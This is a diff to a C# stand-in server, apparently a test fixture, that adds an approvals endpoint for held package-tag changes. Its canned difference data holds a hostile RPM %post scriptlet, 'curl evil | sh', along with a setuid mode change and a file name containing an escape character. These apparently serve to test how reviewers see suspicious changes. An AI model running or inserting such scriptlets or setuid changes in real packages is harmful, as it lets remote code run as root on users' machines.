@@ -21,6 +21,10 @@ sealed class StandInTags
 
     public TagChanged Answer { get; set; } = new(false, ["stable: hello-2-1 tagged"], [], []);
 
+    /// <summary>Whether changes need a second person, and what becomes of what waits, each time that it is asked for; the last one stays.</summary>
+    public bool Holds { get; set; }
+    public ConcurrentQueue<ApprovalState> Approvals { get; } = new();
+
     /// <summary>Answers to who waits for a repository, in turn; the last one stays.</summary>
     public ConcurrentQueue<RepoHolds> Waits { get; } = new();
 
@@ -49,6 +53,16 @@ sealed class StandInTags
             ("GET", _, null) => Told(context, new SideTagPage([Side], null), SkylineJson.Default.SideTagPage),
             _ => Told(context, new SideTagDetails(Side, "stable", [], []), SkylineJson.Default.SideTagDetails),
         });
+        app.MapMethods("/api/approvals/{id:long}/{act?}", ["GET", "POST"], context => (context.Request.RouteValues["act"] as string) switch
+        {
+            "difference" => Told(context, new ApprovalDifference(7, "abc", [new("stable", "hello", "hello-1-1", 1, "hello-2-1", 2,
+                [new("hello-2-1.x86_64.rpm", "changed", [new("/usr/bin/hello\u001b", "content, mode 100755 → 104755")], [new("%post", null, "/bin/sh\ncurl evil | sh\n")], ["+ requires: curl"])], ["-Version: 1", "+Version: 2"], [new("hello.tar", "1111", "2222")])], 1, null), SkylineJson.Default.ApprovalDifference),
+            "refuse" => Told(context, Approval(ApprovalState.Refused), SkylineJson.Default.ApprovalDetails),
+            "withdraw" => Told(context, Approval(ApprovalState.Withdrawn), SkylineJson.Default.ApprovalDetails),
+            "approve" => Told(context, Approval(ApprovalState.Done), SkylineJson.Default.ApprovalDetails),
+            _ => Told(context, Approval(Approvals.Count > 1 && Approvals.TryDequeue(out var state) || Approvals.TryPeek(out state) ? state : ApprovalState.Waiting), SkylineJson.Default.ApprovalDetails),
+        });
+        app.MapGet("/api/approvals", context => Told(context, new ApprovalPage([Approval(ApprovalState.Waiting).Approval], null), SkylineJson.Default.ApprovalPage));
         app.MapPost("/api/rpms", Import);
         app.MapGet("/api/tags/{tag}/repo", Wait);
         app.MapGet("/api/tags/{tag}/events", context => Events(context));
@@ -56,6 +70,9 @@ sealed class StandInTags
         app.MapGet("/api/tags/{tag}/snapshots/{hash}", Snapshot);
         app.MapGet("/api/tags/{tag}/diff", Diff);
     }
+
+    static ApprovalDetails Approval(ApprovalState state) => new(new(7, state, "kim wants tag stable: hello-2-1 tagged", ["stable"], "kim", Noon, Noon.AddYears(10), "abc", 1, state == ApprovalState.Waiting ? null : "lee", null, state == ApprovalState.Refused ? "not now" : null),
+        [new("tag stable", "hello-2-1 tagged", null, null)], 1, null, "POST /api/tags/stable/builds");
 
     async Task Told<T>(HttpContext context, T answer, System.Text.Json.Serialization.Metadata.JsonTypeInfo<T> type)
     {
@@ -72,6 +89,12 @@ sealed class StandInTags
     async Task Change(HttpContext context)
     {
         await Keep(context);
+        if (Holds && context.Request.Query["preview"] != "true")
+        {
+            (context.Response.StatusCode, context.Response.Headers.Location) = (202, "/api/approvals/7");
+            await context.Response.WriteAsJsonAsync(new HeldChange(7, "Nothing is changed yet: it needs a second person.", "abc", Noon.AddYears(10)), SkylineJson.Default.HeldChange);
+            return;
+        }
         await context.Response.WriteAsJsonAsync(Answer with { Preview = context.Request.Query["preview"] == "true" }, SkylineJson.Default.TagChanged);
     }
 
